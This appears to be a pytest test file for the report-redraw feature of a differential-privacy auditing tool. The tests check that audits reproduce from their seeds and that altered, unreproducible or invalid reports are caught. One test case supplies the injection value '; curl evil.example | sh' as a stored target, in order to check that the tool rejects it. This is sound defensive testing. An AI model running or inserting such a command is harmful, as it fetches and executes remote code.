"""A report is drawn again from its seeds: the same counts, or what differs, or why it cannot be."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from provado.reports.cli.main import main
from provado.reports.documents import schema

MECHANISMS = """
import random

import numpy as np
from provado.proofs.causal.examples import noisy_count

OWN = random.SystemRandom()  # that nobody can seed
ORIGIN = OWN.randrange(10**9)  # another one in each process, and with it the rule
table = noisy_count(2, 2)

def sound(data, *, size, rng):
    return np.round(sum(data) + rng.laplace(size=size), 2)

def coin(data):
    return bool(OWN.random() < 0.6) ^ (sum(data) % 2 == 1)

def moved(data):
    return ORIGIN + coin(data)

def raises(data):
    raise RuntimeError("boom")
"""
PAIR = ["--pair", "d.json", "e.json"]
FEW = [*PAIR, "--samples", "2000", "--epsilon", "1"]
FILE = "redrawn_under_test.py"


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / FILE).write_text(MECHANISMS)
    (tmp_path / "d.json").write_text("[1, 1]")
    (tmp_path / "e.json").write_text("[1, 0]")
    monkeypatch.chdir(tmp_path)
    monkeypatch.delitem(sys.modules, FILE[:-3], raising=False)
    return tmp_path


@pytest.fixture(scope="module")
def known() -> dict[tuple[str, ...], str]:
    """The reports that were made already, by their words."""
    return {}


@pytest.fixture
def redrawn(
    place: Path, capsys: pytest.CaptureFixture[str], known: dict[tuple[str, ...], str]
) -> Callable[..., tuple[int, list[tuple[str, str]]]]:
    """Audits, changes the report, draws it again; returns the status and the answers."""

    def run(
        words: list[str], change: Callable[[dict[str, Any]], Any] = lambda _: None
    ) -> tuple[int, list[tuple[str, str]]]:
        file = place / "out/audit.json"
        if tuple(words) not in known:
            main(["audit", *words, "--out", "out"])
            known[tuple(words)] = file.read_text()
        file.parent.mkdir(exist_ok=True)
        document = json.loads(known[tuple(words)])
        change(document)
        file.write_text(json.dumps(document))
        capsys.readouterr()
        # As in a process of its own, where the module's generator is another.
        sys.modules.pop(FILE[:-3], None)
        status = main(["report", str(file), "--redraw", "--json"])
        answer = json.loads(capsys.readouterr().out)
        jsonschema.validate(answer, schema.json_schema(schema.REDRAW))
        assert answer["same"] == (status == 0)
        assert answer["other_versions"] == []
        return status, [(one["outcome"], one["words"]) for one in answer["audits"]]

    return run


Redraw = Callable[..., tuple[int, list[tuple[str, str]]]]


@pytest.mark.parametrize(
    "words",
    [
        [f"{FILE}:sound", *FEW],
        [f"{FILE}:sound", *FEW, "--delta", "1e-3", "--seed", "5"],
        [f"{FILE}:sound", *FEW, "--stop-early", *PAIR],
        ["--catalogue", "--only", "randomized-response/*", "--samples", "2000"],
    ],
)
def test_the_same_seed_gives_the_same_counts(redrawn: Redraw, words: list[str]) -> None:
    status, answers = redrawn(words)
    assert status == 0
    assert set(answers) == {("same", "same counts")}


def test_a_table_is_decided_again(redrawn: Redraw) -> None:
    assert redrawn([f"{FILE}:table", "--epsilon", "0.7"]) == (
        0,
        [("same", "same table, decided again")],
    )


def test_an_audit_that_broke_breaks_again(redrawn: Redraw) -> None:
    status, ((outcome, words),) = redrawn([f"{FILE}:raises", *FEW])
    assert (status, outcome) == (0, "same")
    assert words.startswith("no counts, then and now: the mechanism raised RuntimeError: boom (at ")


def test_a_count_that_was_not_drawn_is_found(redrawn: Redraw) -> None:
    def change(document: dict[str, Any]) -> None:
        counts = document["audits"][0]["pairs"][0]["counts"]
        counts["d_guessed_d"] += 1
        counts["d_abstained"] -= 1

    status, ((outcome, words),) = redrawn([f"{FILE}:sound", *FEW], change)
    assert (status, outcome) == (1, "differs")
    assert words.startswith("differs: pair 0: counts: recorded Counts(d_guessed_d=")


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        (("seed",), 1, "counts: recorded"),
        (("summary",), "the finest", "summary: recorded 'the finest', drawn ''"),
        (("pairs", 0, "witness", "guess_d"), "output is fine", "witness: recorded"),
        (("pairs", 0, "explored_trials"), 10**4, "counts: recorded"),
    ],
)
def test_what_a_recheck_cannot_see_is_seen(
    redrawn: Redraw, path: tuple[Any, ...], value: Any, said: str
) -> None:
    def change(document: dict[str, Any]) -> None:
        node = audit = document["audits"][0]
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
        if path == ("seed",):
            audit["settings"]["seed"] = value

    status, ((outcome, words),) = redrawn([f"{FILE}:sound", *FEW], change)
    assert (status, outcome) == (1, "differs")
    assert said in words


def test_draws_that_do_not_follow_the_seed_are_compared_by_their_rates(redrawn: Redraw) -> None:
    status, ((outcome, words),) = redrawn([f"{FILE}:coin", *FEW])
    assert (status, outcome) == (0, "alike")
    assert "its draws do not follow the seed" in words
    assert "(homogeneity at 1e-09)" in words


def test_rates_beyond_chance_are_not_alike(redrawn: Redraw) -> None:
    def change(document: dict[str, Any]) -> None:
        counts = document["audits"][0]["pairs"][0]["counts"]
        for right, wrong in (
            ("d_guessed_d", "d_guessed_d_prime"),
            ("d_prime_guessed_d_prime", "d_prime_guessed_d"),
        ):
            counts[right], counts[wrong] = counts[wrong], counts[right]

    status, ((outcome, words),) = redrawn([f"{FILE}:coin", *FEW], change)
    assert (status, outcome) == (1, "differs")
    assert "the counts differ beyond chance (homogeneity at 1e-09), with the same rule" in words


def test_without_the_same_rule_nothing_is_compared(redrawn: Redraw) -> None:
    status, ((outcome, words),) = redrawn([f"{FILE}:moved", *FEW])
    assert (status, outcome) == (3, "not drawn")
    assert "from other samples another rule was learned (certified ε ≥ " in words


@pytest.mark.parametrize(
    ("selection", "said"),
    [
        (["gone.py:f", "--epsilon", "1.0", *PAIR], "there is no file 'gone.py'"),
        ([f"{FILE}:sound", "--epsilon", "1", "--pair", "d.json", "no.json"], "no.json"),
        ([f"{FILE}:sound", "--epsilon", "1.0", *PAIR, "--out", "x"], "--out, which is not part"),
        ([f"{FILE}:sound", "--help"], "it asks for help"),
        (["; curl evil.example | sh"], "target '; curl evil.example | sh'"),
        (["--catalogue"], "it does not name exactly this audit"),
    ],
)
def test_what_cannot_be_had_is_not_drawn(
    redrawn: Redraw, place: Path, selection: list[str], said: str
) -> None:
    def change(document: dict[str, Any]) -> None:
        document["audits"][0]["selection"] = selection

    status, ((outcome, words),) = redrawn([f"{FILE}:sound", *FEW], change)
    assert (status, outcome) == (3, "not drawn")
    assert words.startswith("cannot be drawn here: ")
    assert said in words
    assert not (place / "x").exists()


def test_one_that_cannot_be_drawn_leaves_the_others(
    place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["audit", f"{FILE}:sound", f"{FILE}:coin", *FEW, "--out", "out"])
    text = (place / FILE).read_text().replace("def coin", "def gone")
    (place / FILE).write_text(text)
    sys.modules.pop(FILE[:-3])
    capsys.readouterr()
    assert main(["report", "out/audit.json", "--redraw"]) == 3
    first, second = capsys.readouterr().out.splitlines()
    assert first == "sound: same counts"
    assert second.startswith("coin: cannot be drawn here: target")


def test_it_prints_alone(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["audit", f"{FILE}:table", "--epsilon", "0.7", "--out", "out"])
    capsys.readouterr()
    for words, said in (
        (["--recheck", "--redraw"], "each prints an answer of its own; give one"),
        (["--redraw", "--format", "junit"], "--redraw prints to standard output"),
    ):
        assert main(["report", "out/audit.json", *words]) == 2
        assert said in capsys.readouterr().err


def test_trials_planned_from_a_time_are_repeated_by_number(redrawn: Redraw) -> None:
    asked = [f"{FILE}:sound", *PAIR, "--epsilon", "1", "--seconds", "0.05"]
    assert redrawn(asked) == (0, [("same", "same counts")])


def test_numbers_that_differ_from_pair_to_pair_cannot_be_repeated(redrawn: Redraw) -> None:
    asked = [f"{FILE}:sound", *PAIR, *PAIR, "--epsilon", "1", "--seconds", "0.05"]
    status, ((outcome, words),) = redrawn(asked)
    # Each pair has as many trials as fit into its time; by chance they may be the same.
    assert (status, outcome, words) in (
        (0, "same", "same counts"),
        (
            3,
            "not drawn",
            "cannot be drawn here: its numbers of trials came from a time, and no number given "
            "here repeats them",
        ),
    )


def test_an_audit_that_was_cut_short_cannot_be_repeated(redrawn: Redraw) -> None:
    def change(document: dict[str, Any]) -> None:
        audit = document["audits"][0]
        audit |= {"verdict": "unknown", "reason": "no answer within 3 s", "samples": 4000}
        audit["pairs"][0] |= {"verdict": "unknown", "planned_trials": 4000}

    status, ((outcome, words),) = redrawn([f"{FILE}:sound", *FEW], change)
    assert (status, outcome) == (3, "not drawn")
    assert words == (
        "cannot be drawn here: it was cut short when it was recorded: no answer within 3 s"
    )
